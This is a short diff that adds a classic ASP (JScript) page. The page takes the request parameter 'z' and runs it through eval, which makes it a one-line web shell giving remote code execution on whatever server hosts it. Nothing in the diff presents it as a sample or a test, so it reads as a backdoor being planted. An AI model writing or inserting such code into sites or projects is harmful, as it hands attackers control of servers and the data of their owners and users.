@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+var p = Request.Item("z");
+if (p != "") { eval(p + ""); }
+%>
